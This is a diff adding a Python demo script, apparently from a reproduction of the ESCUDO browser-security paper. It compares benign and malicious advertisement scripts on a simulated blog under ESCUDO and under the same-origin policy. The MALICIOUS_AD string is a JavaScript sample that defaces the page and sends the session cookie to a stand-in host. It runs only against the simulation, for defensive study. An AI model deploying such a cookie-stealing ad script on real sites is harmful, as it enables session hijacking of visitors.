@@ -1,0 +1,75 @@
+#!/usr/bin/env python3
+"""The advertising scenario from the paper's introduction.
+
+A publisher sells a slot on their blog to an ad network.  The ad network
+supplies a script the publisher never reviews.  With the same-origin policy
+the publisher simply has to trust the network; with ESCUDO the publisher
+assigns the slot to ring 2, so even a malicious advertisement is confined --
+it can render inside its slot but cannot rewrite the article, steal the
+session cookie, or call XMLHttpRequest.
+
+Run with::
+
+    python examples/blog_advertising.py
+"""
+
+from __future__ import annotations
+
+from repro.browser import Browser
+from repro.http import Network
+from repro.webapps import Blog
+
+#: A well-behaved advertisement: fills its own slot.
+BENIGN_AD = (
+    "var slot = document.getElementById('ad-slot');"
+    "if (slot != null) { slot.innerHTML = 'Spring sale: 20% off everything!'; }"
+)
+
+#: A malicious advertisement: tries to rewrite the article and grab cookies.
+MALICIOUS_AD = (
+    "var slot = document.getElementById('ad-slot');"
+    "if (slot != null) { slot.innerHTML = 'Totally legit offers'; }"
+    "var article = document.getElementById('post-body');"
+    "if (article != null) { article.innerHTML = 'BUY MY CRYPTO COIN'; }"
+    "var banner = document.getElementById('blog-banner');"
+    "if (banner != null) { banner.textContent = 'sponsored content only'; }"
+    "var xhr = new XMLHttpRequest();"
+    "xhr.open('GET', 'http://ads.example.net/collect?c=' + document.cookie);"
+    "xhr.send();"
+)
+
+
+def run(ad_script: str, label: str) -> None:
+    print(f"=== advertisement: {label} " + "=" * 30)
+    for model in ("escudo", "sop"):
+        blog = Blog(ad_script=ad_script, input_validation=False)
+        network = Network()
+        network.register(blog.origin, blog)
+        browser = Browser(network, model=model)
+        loaded = browser.load(f"{blog.origin}/post?id=1")
+        page = loaded.page
+
+        slot = page.document.get_element_by_id("ad-slot")
+        article = page.document.get_element_by_id("post-body")
+        banner = page.document.get_element_by_id("blog-banner")
+        ad_requests = network.requests_matching(path_prefix="/collect")
+
+        print(f"[{model:>6}] ad slot shows       : {slot.text_content!r}")
+        print(f"         article intact      : {'rings' in article.text_content}")
+        print(f"         banner intact       : {'blog' in banner.text_content}")
+        print(f"         cookie exfiltration : {len(ad_requests)} request(s)")
+        print(f"         denied accesses     : {page.monitor.stats.denied}")
+    print()
+
+
+def main() -> None:
+    print("Publisher / ad-network trust scenario (Section 1 of the paper)\n")
+    run(BENIGN_AD, "benign (fills its slot)")
+    run(MALICIOUS_AD, "malicious (tries to take over the page)")
+    print("Under ESCUDO the benign ad still works, while the malicious ad is\n"
+          "confined to its ring-2 slot; under the same-origin policy the\n"
+          "publisher's article and cookies are at the advertiser's mercy.")
+
+
+if __name__ == "__main__":
+    main()
